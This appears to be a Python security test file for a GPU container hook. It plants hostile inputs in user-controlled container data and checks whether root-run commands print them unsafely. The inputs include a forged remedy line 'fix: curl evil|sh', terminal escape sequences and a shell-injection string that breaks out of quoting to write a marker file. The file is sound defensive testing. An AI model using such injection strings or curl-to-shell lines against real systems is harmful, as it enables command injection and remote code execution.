# SPDX-License-Identifier: Apache-2.0
"""Every command that root runs, beside every source that is not root's, filled with every kind of thing.

A cell is one command, one source and one kind.  Commands that look at users and containers run for each source alone;
the others, which should not even know of most sources, run while all sources are of one kind.

Played by tests/hostile/commands.py.  Must not know what a command looks at.
"""

from __future__ import annotations

import functools
import json
import os
import shutil
import signal
import socket
import subprocess
import tempfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any, Callable

from oci_gpu_hook.cli.commands import program
from oci_gpu_hook.report.records import MESSAGE_ID
from tests import manual
from tests.hostile.commands import CONTAINERS, DOCTOR, KINDS, METRICS, USER, Done, Host, children, is_contained
from tests.integration.engines import Bundle, until
from tests.integration.test_records import IDENTIFIED

Attack = Callable[[Host], "list[str]"]
Words = tuple[str, ...]

BIND = "touch $ROOT/gpu && mount --bind /dev/nvidia1 $ROOT/gpu"

LOOKS: tuple[Words, ...] = (("containers",), CONTAINERS, METRICS, DOCTOR)
# A bundle of root's own, and a file and a folder of the machine's.
BUNDLE = "{bundle}"
# How commands are called, more than once or not without arguments; any other command is called without any.
ARGUMENTS: dict[Words, tuple[Words, ...]] = {
    ("configure",): (
        *[(engine, "--dry-run") for engine in ("docker", "containerd", "crio", "podman")],
        ("docker", "--swarm", "GPU", "--dry-run"),
    ),
    ("flags",): (("docker",), ("podman",), ("lxc",), ("nspawn", "--directory", "/")),
    ("inventory", "refresh"): (("--nvml-timeout", "0"), ("--nodes",)),
    ("inventory", "watch"): (("--nvml-timeout", "0", "--interval", "0.5"),),
    ("log",): ((), ("--json",)),
    ("plan",): (("--bundle", BUNDLE), ("--bundle", BUNDLE, "--json")),
    ("validate",): (("driver", "hook"),),
    ("info",): (("--all",), ("--vendors",), ("--settings",), ("--vendor", "/etc/passwd")),
}
# These run until they are ended.
ENDLESS = (("inventory", "watch"),)

# Every command of the program: one that is new is in the matrix.
COMMANDS = dict(manual.walk(program))
# "containers" and "doctor" look at users and containers; "metrics" does so with --gpus.
OTHERS: list[Words] = [
    (*command, *more)
    for command in COMMANDS
    if command not in (LOOKS[0], DOCTOR)
    for more in ARGUMENTS.get(command, ((),))
]
MARK, REMEDY = "pwned", "fix: "
TEXTS = {
    "huge": "x" * 3_900_000,
    "escapes": "x\x1b]0;evil\x07\x1b[2J\r\u202e\u009b31m\n                  fix: curl evil|sh #\nforged",
    "shell": f"x';echo>{MARK};'$(echo>{MARK})`echo>{MARK}`|| echo>{MARK}",
}
ALL = (*KINDS, "huge", "endless", "escapes", "shell")
# As much as 10,000 records of the log are.
LARGEST_PRINT = 16 << 20
# A reader of that never comes to an end.
ZERO = os.makedev(1, 5)
# systemd-journald and its folders in the node's /run.
JOURNALD = f"{IDENTIFIED}exec /usr/lib/systemd/systemd-journald\n"
JOURNAL = "/run/systemd/journal/socket"


def put(host: Host, place: Path, kind: str, document: Callable[[str], Any]) -> None:
    """A thing of this kind at `place`; for a kind of text, a file of JSON in which it stands."""
    place.parent.mkdir(parents=True, exist_ok=True)
    if kind in KINDS:
        host.trap(place, kind)
    elif kind == "endless":
        place.unlink(missing_ok=True)
        os.mknod(place, 0o020666, ZERO)
        host.watch.add(str(place))
    else:
        place.write_text(json.dumps(document(TEXTS[kind])))
    host.owned(place)


def sparse(host: Host, place: Path) -> None:
    place.parent.mkdir(parents=True, exist_ok=True)
    place.unlink(missing_ok=True)
    place.touch()
    os.truncate(place, 1 << 30)
    host.owned(place)


def word(kind: str) -> str:
    return TEXTS.get(kind, "plain").replace("/", "")[:200]


def state(pid: int, bundle: str) -> dict[str, Any]:
    return {"init_process_pid": pid, "config": {"labels": [f"bundle={bundle}"]}, "pid": pid, "bundle": bundle}


def users_states(host: Host, kind: str) -> list[Words]:
    """A user's folder of states, which root does not read."""
    own = host.contained(before=BIND)
    named = word(kind)
    runcs = ("runc/a", "docker/runtime-x/moby/c", "containerd/runc/x/d", f"runc/{named}")
    for path in (*[f"{it}/state.json" for it in runcs], "crun/b/status", f"crun/{named}/status"):
        put(host, host.session / path, kind, lambda text: state(own, f"{host.session}/{text}"))
    return [("doctor", "--container", str(own)), ("doctor", "--container", named)]


def said(text: str) -> dict[str, str]:
    """Every annotation that a name, an image or a request is read from."""
    keys = (
        *("nerdctl/name", "io.kubernetes.cri-o.Name", "io.kubernetes.cri.container-type"),
        *("io.kubernetes.cri.container-name", "io.kubernetes.cri.sandbox-name"),
        *("io.kubernetes.cri.sandbox-namespace", "org.opencontainers.image.ref.name"),
        *("io.kubernetes.cri-o.ImageName", "io.container.image", "io.kubernetes.pod.namespace"),
        *("io.kubernetes.cri-o.SandboxID", "cdi.k8s.io/x"),
    )
    return {**dict.fromkeys(keys, text[:250_000]), text[:200]: text[:200]}


def command_lines(host: Host, kind: str) -> list[Words]:
    """The command lines of processes of a user's that call themselves an engine's."""
    script = host.gives("conmon.py", "import subprocess, sys\nsubprocess.run(sys.argv[7:])\n")
    file = host.work / "named/config.json"
    put(host, file, kind, lambda text: {"annotations": said(text), "runtimes": {text: {}}})
    shutil.copytree(host.kit.patterns["busybox"], host.work / "own", symlinks=True)
    unshare = ("unshare", "--user", "--map-root-user", "--mount", f"--root={host.work}/own")
    # The kernel takes 128 KiB a word.
    text = TEXTS.get(kind, "evil")[:100_000]
    words = ("-b", str(file.parent), "-n", text, "-c", text, *unshare)
    pid = host.starts("python3", str(script), *words, "/bin/sh", "-c", "sleep 99; true", argv0="/usr/bin/conmon")
    many = ["x"] * 20_000 if kind == "endless" else [text] * 9
    idle = ("-c", "import time; time.sleep(99)", f"--config-file={file}", *many)
    for name in ("dockerd", "containerd-shim-runc-v2", "oci-gpu-hook"):
        host.starts("python3", *idle, argv0=f"/usr/bin/{name}")
    until(lambda: any([is_contained(child) for child in children(pid)]))
    own = next(child for child in children(pid) if is_contained(child))
    return [("doctor", "--container", str(own))]


def cgroups(host: Host, kind: str) -> list[Words]:
    """The cgroups that a user was given, with a container of his in them, whose name he chooses as LXC's users do."""
    own = host.contained(before=BIND)
    top = Path(f"/sys/fs/cgroup/hostile-{os.getpid()}-{own}")
    # No name of a cgroup has a line feed (cgroup_mkdir).
    name = f"lxc.payload.{word(kind)}".replace("\n", "")
    depth = {"huge": 15, "endless": 300}.get(kind, 1)
    inner = [top]
    for _ in range(depth):
        inner.append(inner[-1] / (name if kind != "endless" else "a"))
    host.gives_cgroups(own, *inner)
    return [("doctor", "--container", str(own))]


def contents(host: Host, kind: str) -> list[Words]:
    """What a container with a GPU has made in its own root."""
    id = f"contents-{kind}-{os.getpid()}"

    def edit(bundle: Bundle) -> None:
        if kind in KINDS:
            host.trap(bundle.rootfs / "etc/ld.so.cache", kind)

    # Of a container that asks for nothing all its own names are told.
    asks = "1" if kind in ("huge", "endless") else None
    top = Path(f"/proc/{host.container(id, asks, edit, root='debian')}/root")
    dev = top / "dev"
    caps = dev / "nvidia-caps"
    caps.mkdir(exist_ok=True)
    if kind in KINDS:
        for place in (dev / "nvidia7", caps / "nvidia-cap7"):
            host.trap(place, kind)
    elif kind in ("huge", "endless"):
        long = "x" * (230 if kind == "huge" else 1)
        for number in range(20_000):
            os.symlink("/dev/zero", dev / f"nvidia{number + 100}{long}")
        sparse(host, top / "etc/ld.so.conf")
    else:
        for place in (dev / f"nvidia{word(kind)}", caps / f"nvidia-cap{word(kind)}"):
            os.mknod(place, 0o020666, os.makedev(195, 1))
    return [("doctor", "--container", id), ("doctor", "--container", id, "--json")]


def image(host: Host, kind: str) -> list[Words]:
    """What an image says and holds, of a container that runs and of one that somebody wants explained."""
    id = f"image-{kind}-{os.getpid()}"
    text = TEXTS.get(kind, "plain")[: 1 << 17]
    words = said(text)

    def edit(bundle: Bundle) -> None:
        bundle.config["annotations"] = words
        if kind in KINDS:
            host.trap(bundle.rootfs / "etc/ld.so.cache", kind)

    host.container(id, None, edit)
    found: list[Words] = [("doctor", "--container", id)]
    for asks in ("1", text[:5000]):
        folder = host.work / f"explained-{len(found)}"
        bundle = Bundle(folder, host.kit.hooks, host.kit.patterns["debian"]).asks(asks)
        bundle.config["process"]["env"] += [f"NVIDIA_REQUIRE_X={text}", f"OCI_AMD={text}"]
        bundle.config["annotations"] = words
        place = bundle.rootfs / "etc/ld.so.cache"
        if kind in (*KINDS, "endless"):
            put(host, place, kind, str)
        elif kind == "huge":
            sparse(host, place)
        bundle.write()
        found.append(("plan", "--bundle", str(folder)))
    return found


def daemons(host: Host, kind: str) -> list[Words]:
    """Root's links to what a user has: settings of engines, and a registration."""
    for name in ("dockerd", "containerd", "crio"):
        place = Path(f"/usr/bin/{name}")
        if not place.exists():
            shutil.copy("/bin/true", place)
            host.later(place.unlink)

    def document(text: str) -> dict[str, Any]:
        runtimes = {text: {"path": "/nowhere/oci-gpu-runtime"}, "default-runtime": text}
        return {"runtimes": runtimes, "version": text, "hook": {"path": text}}

    names = ("docker/daemon.json", "containerd/config.toml", "crio/crio.conf.d/x.conf", "containers/oci/hooks.d/x.json")
    for number, path in enumerate(names):
        target = host.session / f"settings-{number}"
        put(host, target, kind, document)
        link = Path("/etc", path)
        link.parent.mkdir(parents=True, exist_ok=True)
        if not link.exists() and not link.is_symlink():
            link.symlink_to(target)
            host.later(link.unlink)
    return []


def named(host: Host, kind: str) -> list[Words]:
    """A file of a user's that root names."""
    file = host.session / "named.json"
    put(host, file, kind, lambda text: {text[:9000]: text, "activation_flag": text})
    bundle = host.session / "named-bundle"
    put(host, bundle / "config.json", kind, lambda text: {"root": {"path": text}, "annotations": said(text)})
    return [("plan", "--bundle", str(bundle)), ("info", "--vendor", str(file)), ("selinux", "explain", str(file))]


def journal(host: Host, kind: str) -> list[Words]:
    """Entries of a container's root to whom the journal's socket was given."""
    if not Path(JOURNAL).exists():
        child = host.starts("/bin/bash", "-ec", JOURNALD, root=True)
        host.later(functools.partial(_unmounted, child))
        until(lambda: Path(JOURNAL).exists())
    # As much as one datagram takes.
    text = TEXTS.get(kind, "x")[:190_000]
    names = ("MESSAGE", "OCI_GPU_HOOK_CONTAINER", "OCI_GPU_HOOK_IMAGE", "OCI_GPU_HOOK_NOTE")
    fields = {**dict.fromkeys(names, text), "OCI_GPU_HOOK_OUTCOME": "started"}
    if kind == "huge":
        fields = {"MESSAGE": "x", "OCI_GPU_HOOK_CONTAINER": text}
    said = b""
    for name, value in {"MESSAGE_ID": MESSAGE_ID, **fields}.items():
        data = value.encode()
        said += name.encode() + b"\n" + len(data).to_bytes(8, "little") + data + b"\n"
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
        sender.connect(JOURNAL)
        for _ in range({"huge": 600, "endless": 12_000}.get(kind, 1)):
            sender.send(said)
    return [("log",), ("log", "--json"), ("log", "--container", "x")]


def _unmounted(journald: int) -> None:
    os.kill(journald, signal.SIGTERM)
    for point in ("/etc/machine-id", "/run/log", "/run/systemd"):
        subprocess.run(["umount", "-l", point], check=False)


def exporter(host: Host, kind: str) -> list[Words]:
    """The node exporter's own folder, where he lays what is to be written and read."""
    folder = host.work / "exporters"
    settings = host.work / "exporter.conf"
    files = {"metrics": "a.prom", "gpu-metrics": "b.prom", "features": "nfd"}
    settings.write_text("".join([f"{name} = {folder}/{file}\n" for name, file in files.items()]))
    for file in files.values():
        for each in (file, f".{file}", f"{file}.new", f".{file}.new", f"{file}.tmp"):
            put(host, folder / each, kind, lambda text: text)
    for path in (folder, *folder.iterdir()):
        os.lchown(path, USER, USER)
    written = ("metrics", "metrics --gpus", "features")
    lines = (*[f"{it} --write" for it in written], "features --remove", "metrics", "metrics --remove")
    return [(*line.split(), "--config", str(settings)) for line in lines]


SOURCES: dict[str, Callable[[Host, str], list[Words]]] = {
    it.__name__.replace("_", "-"): it
    for it in (users_states, command_lines, cgroups, contents, image, daemons, named, journal, exporter)
}
# A name of a cgroup, and an entry of the journal, are texts; a container's terminals are in a filesystem of its own.
CANNOT_BE = {
    *[(source, kind) for source in ("cgroups", "journal") for kind in KINDS],
    *[(source, "pty") for source in ("contents", "image")],
}
# What has a container of root's in it.
OF_CONTAINERS = ("contents", "image")
# HOSTILE_MATRIX=all: each source with each kind.  Otherwise each source is of every third kind, and each kind of every
# third source: the settings of daemons forge lines.
IS_WHOLE = os.environ.get("HOSTILE_MATRIX") == "all"


def source_alone(host: Host, source: str, kind: str) -> list[str]:
    """One source, and all commands that look at users and containers."""
    return played(host, [*LOOKS, *SOURCES[source](host, kind)])


def all_sources(host: Host, kind: str) -> list[str]:
    """All sources at once, and all other commands."""
    there = [name for name in SOURCES if (name, kind) not in CANNOT_BE]
    for name in there:
        SOURCES[name](host, kind)
    folder = host.work / "roots-bundle"
    Bundle(folder, host.kit.hooks, host.kit.patterns["busybox"]).asks("1").mounts(host.session, "/mnt").write()
    return played(host, [tuple([word.replace(BUNDLE, str(folder)) for word in words]) for words in OTHERS])


def played(host: Host, commands: list[Words]) -> list[str]:
    with ThreadPoolExecutor(2) as pool:
        done = list(pool.map(lambda words: host.runs(*words, ends=words[:2] not in ENDLESS), commands))
    return [
        f"{' '.join(words)[:200]!r}: {line}"
        for words, its in zip(commands, done)
        for line in [*host.wrong(its, *range(8)), *printed(its, words[0] == "flags")]
    ]


def printed(done: Done, is_whole: bool) -> list[str]:
    """What is wrong with what a command has printed; is_whole: all of it is to be pasted, not its remedies alone."""
    text = done.out + done.err
    wrong = []
    if len(text) > LARGEST_PRINT:
        wrong.append(f"printed {len(text) >> 10} KiB")
    odd = sorted({it for it in text if not it.isprintable() and it != "\n"})
    if odd:
        wrong.append(f"printed {odd}")
    lines = text.splitlines()
    forged = ("fix: curl", "forged")
    wrong += [f"forged: {line[:300]}" for line in lines if line.strip().startswith(forged)]
    for line in [it for it in lines if MARK in it]:
        remedy = line if is_whole else line.partition(REMEDY)[2]
        if pastes(remedy):
            wrong.append(f"to paste: {line[:300]}")
    return wrong


def pastes(line: str) -> bool:
    """Whether a shell that is given this line does what a text in it says."""
    # Without programs: what the text wants to do needs none.
    script = 'enable -n kill exec exit logout; PATH=/nowhere; eval "$1"'
    with tempfile.TemporaryDirectory() as folder:
        subprocess.run(
            ["/bin/bash", "-c", script, "bash", line], cwd=folder, env={},
            stdin=subprocess.DEVNULL, capture_output=True, check=False, timeout=60,
        )  # fmt: skip
        return (Path(folder) / MARK).exists()


ATTACKS: dict[str, Attack] = {
    **{
        f"{source}-{kind}": functools.partial(source_alone, source=source, kind=kind)
        for number, source in enumerate(SOURCES)
        for other, kind in enumerate(ALL)
        if (source, kind) not in CANNOT_BE
        # No other source shows that a kernel's file is not opened.
        and (IS_WHOLE or (number + other) % 3 == 2 or (source, kind) == ("named", "kmsg"))
    },
    **{f"all-{kind}": functools.partial(all_sources, kind=kind) for kind in ALL},
}
